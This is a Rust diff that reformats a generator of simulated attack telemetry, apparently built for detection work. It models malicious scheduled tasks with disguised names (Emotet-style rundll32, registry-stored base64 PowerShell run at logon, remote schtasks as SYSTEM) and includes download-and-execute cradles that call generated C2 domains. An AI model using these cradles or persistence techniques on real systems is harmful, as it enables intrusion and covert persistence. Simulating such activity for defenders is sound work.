@@ -100,7 +100,13 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
             host: any,
             source: None,
             t0: 0,
-            task: base_task(String::new(), Trigger::Boot, system_principal("LeastPrivilege"), Action::Com { clsid: String::new(), data: None }, &mut r),
+            task: base_task(
+                String::new(),
+                Trigger::Boot,
+                system_principal("LeastPrivilege"),
+                Action::Com { clsid: String::new(), data: None },
+                &mut r,
+            ),
             c2: Vec::new(),
             bin: String::new(),
             extra: String::new(),
@@ -110,7 +116,12 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
         };
         match scenario {
             Scenario::WriteupDailySystemTask => {
-                let prefix = *r.pick(&["SystemHealthMonitorService", "WindowsDefenderSignatureRefresh", "NetFrameworkNgenQueueProcessor", "DeviceCensusTelemetryCollector"]);
+                let prefix = *r.pick(&[
+                    "SystemHealthMonitorService",
+                    "WindowsDefenderSignatureRefresh",
+                    "NetFrameworkNgenQueueProcessor",
+                    "DeviceCensusTelemetryCollector",
+                ]);
                 let name = format!("\\{prefix}_{}", r.hex(16));
                 let bin = format!("C:\\Windows\\Temp\\{}.exe", r.word(10, ALNUM));
                 inst.t0 = if fleet.days == 1 { fleet.day_start(0) + r.range(40 * MIN, 150 * MIN) } else { day_time(&mut r, 4, 22, false) };
@@ -152,10 +163,28 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
                 if onlogon {
                     let key = format!("Software\\{}", capitalized(&mut r, 7));
                     let value = r.word(5, LOWER);
-                    let name = format!("\\{}{}", r.pick(&["OneDriveSyncHelper", "UserProfileRefresh", "TeamsPresenceUpdater", "PrinterMappingSync"]), r.hex(4).to_ascii_uppercase());
-                    let args = format!("-nop -w hidden -c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:\\{key}).{value})))\"");
-                    let principal = Principal { id: "Author", user_id: Some(user.qualified()), group_id: None, logon_type: Some("InteractiveToken"), run_level: Some("LeastPrivilege") };
-                    inst.task = base_task(name, Trigger::Logon { user: Some(user.qualified()) }, principal, Action::Exec { command: "powershell".into(), args: Some(args), workdir: None }, &mut r);
+                    let name = format!(
+                        "\\{}{}",
+                        r.pick(&["OneDriveSyncHelper", "UserProfileRefresh", "TeamsPresenceUpdater", "PrinterMappingSync"]),
+                        r.hex(4).to_ascii_uppercase()
+                    );
+                    let args = format!(
+                        "-nop -w hidden -c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:\\{key}).{value})))\""
+                    );
+                    let principal = Principal {
+                        id: "Author",
+                        user_id: Some(user.qualified()),
+                        group_id: None,
+                        logon_type: Some("InteractiveToken"),
+                        run_level: Some("LeastPrivilege"),
+                    };
+                    inst.task = base_task(
+                        name,
+                        Trigger::Logon { user: Some(user.qualified()) },
+                        principal,
+                        Action::Exec { command: "powershell".into(), args: Some(args), workdir: None },
+                        &mut r,
+                    );
                     inst.c2 = vec![c2_domain(&mut r)];
                     inst.bin = key;
                     inst.extra = value;
@@ -167,10 +196,20 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
                     let export = if r.chance(0.5) { "DllRegisterServer".to_string() } else { capitalized(&mut r, 8) };
                     let n = 8 + r.below(5) as usize;
                     let name = format!("\\{}", r.word(n, LETTERS));
-                    let principal = Principal { id: "Author", user_id: Some(user.sid.clone()), group_id: None, logon_type: Some("InteractiveToken"), run_level: Some("LeastPrivilege") };
+                    let principal = Principal {
+                        id: "Author",
+                        user_id: Some(user.sid.clone()),
+                        group_id: None,
+                        logon_type: Some("InteractiveToken"),
+                        run_level: Some("LeastPrivilege"),
+                    };
                     let start = xml_time(t0 + 2 * MIN, false);
                     let trigger = Trigger::Repeat { start, interval: "PT10M", duration: None };
-                    let action = Action::Exec { command: "C:\\Windows\\system32\\rundll32.exe".into(), args: Some(format!("{dll},{export}")), workdir: None };
+                    let action = Action::Exec {
+                        command: "C:\\Windows\\system32\\rundll32.exe".into(),
+                        args: Some(format!("{dll},{export}")),
+                        workdir: None,
+                    };
                     inst.task = base_task(name, trigger, principal, action, &mut r);
                     inst.task.settings = Settings::relaxed("PT0S");
                     inst.c2 = vec![c2_domain(&mut r), c2_domain(&mut r)];
@@ -187,10 +226,20 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
                 } else {
                     inst.src_ip = format!("10.20.9.{}", r.range(100, 200));
                 }
-                let name = format!("\\{}{}", r.pick(&["WinUpdateCheck", "SysHealthCheck", "OfficeCacheSync", "DriverStoreRefresh"]), r.range(10, 99));
+                let name = format!(
+                    "\\{}{}",
+                    r.pick(&["WinUpdateCheck", "SysHealthCheck", "OfficeCacheSync", "DriverStoreRefresh"]),
+                    r.range(10, 99)
+                );
                 let bin = format!("C:\\ProgramData\\{}.exe", r.word(8, LOWER));
                 let st = inst.t0 + HOUR;
-                inst.task = base_task(name, Trigger::Once { start: xml_time(st - st.rem_euclid(MIN), false) }, system_principal("LeastPrivilege"), Action::Exec { command: bin.clone(), args: None, workdir: None }, &mut r);
+                inst.task = base_task(
+                    name,
+                    Trigger::Once { start: xml_time(st - st.rem_euclid(MIN), false) },
+                    system_principal("LeastPrivilege"),
+                    Action::Exec { command: bin.clone(), args: None, workdir: None },
+                    &mut r,
+                );
                 inst.task.author = Some(fleet.admins[admin].qualified());
                 inst.task.date = Some(inst.t0);
                 inst.c2 = vec![c2_domain(&mut r)];
@@ -201,7 +250,13 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
                 inst.src_ip = format!("10.20.250.{}", r.range(10, 250));
                 let name = r.word(8, LETTERS);
                 let command = *r.pick(&["whoami", "ipconfig /all", "tasklist", "systeminfo", "hostname", "net localgroup administrators"]);
-                let principal = Principal { id: "LocalSystem", user_id: Some("S-1-5-18".into()), group_id: None, logon_type: Some("InteractiveToken"), run_level: Some("HighestAvailable") };
+                let principal = Principal {
+                    id: "LocalSystem",
+                    user_id: Some("S-1-5-18".into()),
+                    group_id: None,
+                    logon_type: Some("InteractiveToken"),
+                    run_level: Some("HighestAvailable"),
+                };
                 let args = format!("/C {command} > %windir%\\Temp\\{name}.tmp 2>&1");
                 inst.task = base_task(
                     format!("\\{name}"),
@@ -212,7 +267,15 @@ pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
                 );
                 inst.task.uri = false;
                 inst.task.context = "LocalSystem";
-                inst.task.settings = Settings { hidden: true, enabled: true, start_when_available: false, on_batteries: true, idle_wait: false, exec_limit: "P3D", priority: 7 };
+                inst.task.settings = Settings {
+                    hidden: true,
+                    enabled: true,
+                    start_when_available: false,
+                    on_batteries: true,
+                    idle_wait: false,
+                    exec_limit: "P3D",
+                    priority: 7,
+                };
                 inst.bin = format!("C:\\Windows\\Temp\\{name}.tmp");
                 inst.extra = command.to_string();
             }
@@ -239,7 +302,9 @@ pub fn emit(cx: &mut Cx, inst: &Instance, day: u32) {
         }
         Scenario::EmotetRundll32Every10Min if on_target => emotet(cx, inst, day, creation_day),
         Scenario::OnlogonRegistryPayload if on_target => onlogon(cx, inst, day, creation_day),
-        Scenario::RemoteSchtasksRunDelete if creation_day && (on_target || inst.source == Some(cx.host.index)) => remote(cx, inst, on_target),
+        Scenario::RemoteSchtasksRunDelete if creation_day && (on_target || inst.source == Some(cx.host.index)) => {
+            remote(cx, inst, on_target)
+        }
         Scenario::AtexecHidden if on_target && creation_day => atexec(cx, inst),
         _ => {}
     }
@@ -259,9 +324,20 @@ fn writeup_create(cx: &mut Cx, inst: &Instance) {
     cx.share_access(t0 + 40 * MS, &net, &inst.src_ip, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", file, 0x2);
     cx.file_create(t0 + 600 * MS, &host.system_process(), &inst.bin);
     let t1 = t0 + cx.rng.range(5, 15) * SEC;
-    let create = format!("schtasks /create /tn \"{}\" /tr \"{}\" /sc daily /st 03:00 /ru SYSTEM /f", inst.task.name.trim_start_matches('\\'), inst.bin);
+    let create = format!(
+        "schtasks /create /tn \"{}\" /tr \"{}\" /sc daily /st 03:00 /ru SYSTEM /f",
+        inst.task.name.trim_start_matches('\\'),
+        inst.bin
+    );
     let system = host.system.clone();
-    let cmd = cx.spawn(t1, &host.services.clone(), "C:\\Windows\\System32\\cmd.exe", &format!("C:\\Windows\\system32\\cmd.exe /c {create}"), &system, 0);
+    let cmd = cx.spawn(
+        t1,
+        &host.services.clone(),
+        "C:\\Windows\\System32\\cmd.exe",
+        &format!("C:\\Windows\\system32\\cmd.exe /c {create}"),
+        &system,
+        0,
+    );
     cx.spawn(t1 + 70 * MS, &cmd, "C:\\Windows\\System32\\schtasks.exe", &create.replacen("schtasks ", "schtasks  ", 1), &system, 0);
     cx.register_task(inst.t0 + 20 * SEC, &inst.task, &system);
 }
@@ -282,7 +358,9 @@ fn writeup_run(cx: &mut Cx, inst: &Instance, t: i64) {
     cx.script_block(t1 + 900 * MS, &ps, &script, "", true);
     let ip = cx.dns(t1 + 1200 * MS, &ps, domain);
     cx.connect(t1 + 1400 * MS, &ps, &ip, 80, "-");
-    let stage = format!("$h = $env:COMPUTERNAME\n$r = (New-Object Net.WebClient).DownloadString('http://{domain}/c?h=' + $h)\nif ($r) {{ IEX $r }}");
+    let stage = format!(
+        "$h = $env:COMPUTERNAME\n$r = (New-Object Net.WebClient).DownloadString('http://{domain}/c?h=' + $h)\nif ($r) {{ IEX $r }}"
+    );
     cx.script_block(t1 + 2600 * MS, &ps, &stage, "", true);
     cx.connect(t1 + 2900 * MS, &ps, &ip, 80, "-");
     let end = t1 + cx.rng.range(5, 30) * SEC;
@@ -305,7 +383,10 @@ fn emotet(cx: &mut Cx, inst: &Instance, day: u32, creation_day: bool) {
     if creation_day {
         let t0 = inst.t0;
         let doc = format!("Invoice_{}.doc", cx.rng.range(10_000, 99_999));
-        let cache = format!("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}", cx.rng.word(8, ALNUM).to_ascii_uppercase());
+        let cache = format!(
+            "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}",
+            cx.rng.word(8, ALNUM).to_ascii_uppercase()
+        );
         let word_img = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
         let word = cx.spawn(t0, &s.explorer, word_img, &format!("\"{word_img}\" /n \"{cache}\\{doc}\" /o \"\""), &acct, 0);
         let dropper = &inst.c2[1];
@@ -359,12 +440,16 @@ fn onlogon(cx: &mut Cx, inst: &Instance, day: u32, creation_day: bool) {
     let user = acct.account.name.clone();
     let payload = format!(
         "$u='https://{}/{}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $w.DownloadString($u)",
-        inst.c2[0], &inst.task.id.trim_matches(|c| c == '{' || c == '}').to_ascii_lowercase().replace('-', "")[..12]
+        inst.c2[0],
+        &inst.task.id.trim_matches(|c| c == '{' || c == '}').to_ascii_lowercase().replace('-', "")[..12]
     );
     let encoded = base64_utf16le(&payload);
     if creation_day {
         let t0 = inst.t0;
-        let lure = format!("C:\\Users\\{user}\\Downloads\\{}.ps1", cx.rng.pick(&["invoice_viewer", "scan_reader_setup", "hr_form_update", "vpn_profile_fix"]));
+        let lure = format!(
+            "C:\\Users\\{user}\\Downloads\\{}.ps1",
+            cx.rng.pick(&["invoice_viewer", "scan_reader_setup", "hr_form_update", "vpn_profile_fix"])
+        );
         let ps = cx.spawn(t0, &s.explorer, POWERSHELL, &format!("\"{POWERSHELL}\" -ExecutionPolicy Bypass -File \"{lure}\""), &acct, 0);
         cx.image_load(t0 + 150 * MS, &ps, SMA, true, 0);
         let crate::task::Action::Exec { args, .. } = &inst.task.action else { return };
@@ -383,7 +468,8 @@ fn onlogon(cx: &mut Cx, inst: &Instance, day: u32, creation_day: bool) {
         let run = cx.start_run(t, &inst.task, Fired::Logon, &acct, None, 0);
         let Some(p) = run.proc.clone() else { return };
         cx.image_load(t + 150 * MS, &p, SMA, true, 0);
-        let reader = format!("iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:\\{}).{})))", inst.bin, inst.extra);
+        let reader =
+            format!("iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:\\{}).{})))", inst.bin, inst.extra);
         cx.script_block(t + SEC, &p, &reader, "", true);
         cx.script_block(t + 1300 * MS, &p, &payload, "", true);
         let ip = cx.dns(t + 1600 * MS, &p, &inst.c2[0]);
@@ -419,14 +505,22 @@ fn remote(cx: &mut Cx, inst: &Instance, on_target: bool) {
         cx.rng = r;
         let shell = cx.spawn(t_copy - 20 * SEC, &implant, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe", &acct, 0);
         let cmd = "C:\\Windows\\System32\\cmd.exe";
-        cx.spawn(t_copy - 300 * MS, &shell, cmd, &format!("cmd.exe /c copy {} \\\\{}\\C$\\ProgramData\\{file}", inst.bin, target.short), &acct, 0);
+        cx.spawn(
+            t_copy - 300 * MS,
+            &shell,
+            cmd,
+            &format!("cmd.exe /c copy {} \\\\{}\\C$\\ProgramData\\{file}", inst.bin, target.short),
+            &acct,
+            0,
+        );
         cx.connect(t_copy - 100 * MS, &host.system_process(), &target.ip, 445, &target.fqdn);
         let st = "C:\\Windows\\System32\\schtasks.exe";
         let start = match &inst.task.trigger {
             Trigger::Once { start } => start.get(11..16).unwrap_or("00:00").to_string(),
             _ => "00:00".into(),
         };
-        let create = format!("schtasks  /create /s {} /tn \"{name}\" /tr \"{}\" /ru SYSTEM /sc once /st {start} /f", target.short, inst.bin);
+        let create =
+            format!("schtasks  /create /s {} /tn \"{name}\" /tr \"{}\" /ru SYSTEM /sc once /st {start} /f", target.short, inst.bin);
         cx.spawn(t0 - 200 * MS, &shell, st, &create, &acct, 0);
         cx.spawn(t_run - 200 * MS, &shell, st, &format!("schtasks  /run /s {} /tn \"{name}\"", target.short), &acct, 0);
         cx.spawn(t_del - 200 * MS, &shell, st, &format!("schtasks  /delete /s {} /tn \"{name}\" /f", target.short), &acct, 0);
